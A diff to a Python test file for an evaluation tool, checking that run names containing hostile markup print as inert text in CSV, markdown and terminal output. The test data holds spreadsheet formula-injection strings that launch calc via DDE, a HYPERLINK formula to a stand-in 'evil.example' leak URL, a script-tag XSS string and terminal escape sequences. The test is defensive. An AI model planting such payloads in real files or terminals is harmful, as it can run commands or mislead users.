@@ -3,7 +3,7 @@ that look like spreadsheet formulas, markdown table syntax, HTML or rich markup,
 markup, are written as the text they are. CSV cells starting as a formula would (`=`, `+`, `-`, `@`, tab, CR)
 get OWASP's leading `'` (number cells stay numbers); markdown cells escape `|`, line breaks and HTML; the
 terminal shows every name and path as it is, with no style or link taken from it, as a colour terminal (both
-consoles forced to one) would show it.
+consoles forced to one) would show it, a control character (ESC) as U+FFFD.
 
 The runs are real run directories (`runs_helpers.make_run`), judged again, Turing-tested and compared pairwise
 by a real local server (tests/fake_openai.py); each command is awbench's own, in this process."""
@@ -30,7 +30,7 @@ RUNS = {
     MARKUP_RUN: '=HYPERLINK("https://evil.example/?leak","click")\n| fake | row |',
     "+cmd|' -C calc'!A0": "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3": "\t=1+1 <script>alert(1)</script> & co",
-    "@SUM(1+1)": "\r=2+2",
+    "@SUM(1+1)": "\r=2+2 \x1b[7mREV\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",  # a terminal's own escapes
 }
 JUDGE_MODEL = "=judge(1)|x"  # the rubric judge make_run records: in every leaderboard row and group header
 OTHER_JUDGE = "judge-b"  # a second rubric and Turing judge, for `judges`' agreement table
@@ -173,6 +173,7 @@ def test_names_print_as_text_in_the_leaderboard_and_ls(results, terminal) -> Non
     assert any(line.startswith(f"judge {JUDGE_MODEL} · prompts rubric@1a2b3c") for line in lines)
     turing = [line.split("│") for line in lines if MARKUP_RUN in line and "turing-" in line]
     assert [row[1].strip() for row in turing] == [MARKUP_RUN, MARKUP_RUN]  # the Turing table's, one per judge
+    assert "=2+2 \ufffd[7mREV\ufffd]8;;https://evil.example\ufffd\\link" in board.stdout  # ESC shown, not obeyed
     listed = cli("ls", out)
     assert listed.exit_code == 0, listed.output
     assert any(line.startswith(MARKUP_RUN + "  ") for line in as_text(listed.stdout, MARKUP_RUN)), listed.stdout
